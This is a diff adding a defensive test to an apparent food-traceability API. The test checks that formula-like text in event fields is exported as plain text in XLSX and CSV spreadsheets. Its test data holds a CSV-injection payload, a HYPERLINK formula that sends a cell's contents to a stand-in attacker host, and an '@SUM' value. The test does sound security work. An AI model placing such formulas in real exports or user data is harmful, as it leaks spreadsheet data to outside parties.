@@ -5,6 +5,7 @@ traceability plan PDF; the destination market on the consumer page; ``agritrace 
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import subprocess
@@ -342,3 +343,33 @@ def test_plan_of_an_unknown_organisation_is_404(rt: Runtime, client: TestClient)
         s.commit()
     res = client.get("/api/v1/fsma/plan.pdf", params={"org_id": 424242}, headers=auth(next(iter(keys.values()))))
     assert res.status_code == 404 and "organisation 424242 not found" in res.text
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_spreadsheets(rt: Runtime, client: TestClient) -> None:
+    """Anybody capturing events writes free text (variety, document numbers) that reaches an FDA or
+    authority spreadsheet: a leading =, +, - or @ must not become a live formula (CSV injection)."""
+    keys: dict[str, str] = {}
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with Session(rt.engine) as s:
+        farm = _org(s, "HTX Công Thức", "cooperative", "Xã Tân Thuận, Đồng Tháp", keys)
+        gtin = with_check_digit(f"893{9997:010d}")
+        create_product(s, farm[1], ProductCreate(gtin=gtin, name="Xoài", name_en="Mango"))
+        plot = create_place(s, farm[1], PlaceCreate(kind=PlaceKind.plot, name="Vườn 1"))
+        capture_events(s, farm[1], [object_event(
+            "commissioning", rt.settings.zone, when="2025-07-01T06:00:00+07:00", action="ADD",
+            lot=lot_uri(gtin, "CT-01"), quantity=5, uom="KGM", bizLocation={"id": place_uri(plot)},
+            ilmd={"agri:plot": place_uri(plot), "agri:variety": evil},
+            bizTransactionList=[{"type": "inv", "bizTransaction": f"urn:agritrace:doc:{evil}"},
+                                {"type": "po", "bizTransaction": "urn:agritrace:doc:@SUM(1+1)"}],
+        )], DEFAULT_CONTEXT, rt.settings, checks=rt.capture_checks)  # fmt: skip
+        s.commit()
+    key = keys["HTX Công Thức (cooperative)"]
+    res = client.get("/api/v1/fsma/spreadsheet.xlsx", params={"gtin": gtin}, headers=auth(key))
+    ws = load_workbook(io.BytesIO(res.content)).active
+    assert ws is not None
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
+    text = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": gtin}, headers=auth(key)).text
+    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    starts = [v for row in lines[1:] for v in row if v[:1] in ("=", "+", "-", "@")]
+    assert not starts, starts
